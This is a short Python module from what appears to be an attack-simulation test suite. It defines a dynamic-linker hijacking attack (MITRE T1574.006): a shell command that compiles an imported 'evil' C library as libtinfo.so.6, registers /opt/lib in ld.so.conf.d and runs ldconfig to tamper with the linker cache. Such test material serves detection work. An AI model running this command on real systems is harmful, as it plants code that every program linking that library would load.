"""Puts a library of bash's into a folder that the dynamic linker looks into first.

Source: MITRE ATT&CK T1574.006; man 8 ld.so (ld.so.cache before the default folders).
"""

from attacks.frame import Attack
from attacks.preloads import EVIL_C, TINFO_C

ATTACK = Attack(
    "shell",
    f"cat > evil.c <<'EOF'\n{EVIL_C}\n{TINFO_C}\nEOF\n"
    "mkdir /opt/lib && gcc -shared -fPIC -Wl,-soname,libtinfo.so.6 -o /opt/lib/libtinfo.so.6 evil.c &&"
    " echo /opt/lib > /etc/ld.so.conf.d/00-evil.conf && ldconfig && ls -l /etc/ld.so.cache",
    tampers="/etc/ld.so.cache",
)
